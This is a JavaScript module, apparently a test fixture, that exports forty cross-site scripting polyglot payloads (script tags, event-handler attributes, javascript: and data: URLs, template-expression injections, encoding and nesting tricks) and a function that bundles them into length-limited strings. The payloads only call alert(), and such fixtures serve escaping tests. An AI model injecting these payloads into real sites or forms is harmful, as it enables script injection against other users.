/** Texts that would be scripts wherever a page forgot that they are texts: in markup, attributes, addresses, styles, templates, JSON. */
export const POLYGLOTS = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><img src=x onerror=alert(3)>",
  '<img src=x onerror=alert(4)//',
  '<svg onload=alert(5)>',
  '<svg><script>alert(6)</script></svg>',
  '</script><script>alert(7)</script>',
  '</title><script>alert(8)</script>',
  '</textarea><script>alert(9)</script>',
  '--><script>alert(10)</script>',
  '" onmouseover="alert(11)" autofocus onfocus="alert(11)',
  "' autofocus onfocus='alert(12)",
  'javascript:alert(13)',
  '[x](javascript:alert(14))',
  '![x](x" onerror="alert(15))',
  '[x](data:text/html,<script>alert(16)</script>)',
  '<a href="javascript:alert(17)">x</a>',
  '<iframe srcdoc="<script>alert(18)</script>">',
  '<iframe src=javascript:alert(19)>',
  '<object data="data:text/html,<script>alert(20)</script>">',
  '<embed src=javascript:alert(21)>',
  '<details open ontoggle=alert(22)>',
  '<input autofocus onfocus=alert(23)>',
  '<video><source onerror=alert(24)>',
  '<math><mi xlink:href="javascript:alert(25)">x',
  '<style>@import "javascript:alert(26)"</style>',
  '<link rel=stylesheet href=//x.invalid/27.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(28)">',
  '<base href=//x.invalid/>',
  '<form action=javascript:alert(30)><button>x',
  '{{constructor.constructor("alert(31)")()}}',
  '${alert(32)}',
  '<%= alert(33) %>',
  '\u2028alert(34)\u2029',
  '<scr<script>ipt>alert(35)</scr</script>ipt>',
  '\uff1cscript\uff1ealert(36)\uff1c/script\uff1e',
  '&lt;script&gt;alert(37)&lt;/script&gt;',
  '&#x3c;script&#x3e;alert(38)&#x3c;/script&#x3e;',
  '<noscript><p title="</noscript><img src=x onerror=alert(39)>">',
  '<template><script>alert(40)</script></template><x onclick=alert(40) tabindex=1 id=x>#x',
]

/** Joined to as few texts as fit into `most` characters each. */
export function bundles(most) {
  const found = ['']
  for (const polyglot of POLYGLOTS) {
    const last = found[found.length - 1]
    if (last.length + polyglot.length + 1 <= most) found[found.length - 1] = last === '' ? polyglot : `${last} ${polyglot}`
    else found.push(polyglot)
  }
  return found
}
